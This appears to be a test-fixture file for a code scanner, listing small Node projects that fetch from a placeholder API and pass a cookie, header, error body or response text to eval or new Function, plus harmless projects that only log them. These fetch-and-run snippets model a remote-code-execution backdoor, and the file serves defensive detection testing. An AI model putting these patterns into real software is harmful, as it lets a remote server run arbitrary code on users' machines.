import type { Examples } from "@doorward/core";

/** Programs that run odd parts of an answer, and programs that read them. */
export const examples: Examples = {
  hits: [
    {
      name: "a cookie in the answer that is run",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js":
          'const axios = require("axios");\n\naxios.get("https://api.example/check").then((answer) => new Function("require", answer.data.cookie)(require));\n',
      },
    },
    {
      name: "a header that is evaluated",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js": 'fetch("https://api.example/check").then((answer) => eval(answer.headers.get("x-next")));\n',
      },
    },
    {
      name: "the text of an error that is evaluated",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js":
          'const axios = require("axios");\n\naxios.get("https://api.example/check").catch((error) => eval(error.response.data));\n',
      },
    },
  ],
  misses: [
    {
      name: "a cookie that is kept",
      why: "It is stored, not run.",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js": 'fetch("https://api.example/check").then((answer) => console.log(answer.headers.get("set-cookie")));\n',
      },
    },
    {
      name: "an error that is shown",
      why: "It is shown, not run.",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js":
          'const axios = require("axios");\n\naxios.get("https://api.example/check").catch((error) => console.error(error.response.data));\n',
      },
    },
    {
      name: "a file name in a header",
      why: "It names a file and runs nothing.",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js":
          'fetch("https://api.example/file").then((answer) => require("path").basename(answer.headers.get("content-disposition")));\n',
      },
    },
  ],
  evasions: [
    {
      name: "the body of the same answer",
      caughtBy: "code/fetched-code-runs",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js": 'fetch("https://api.example/check").then((answer) => answer.text()).then((text) => eval(text));\n',
      },
    },
  ],
};
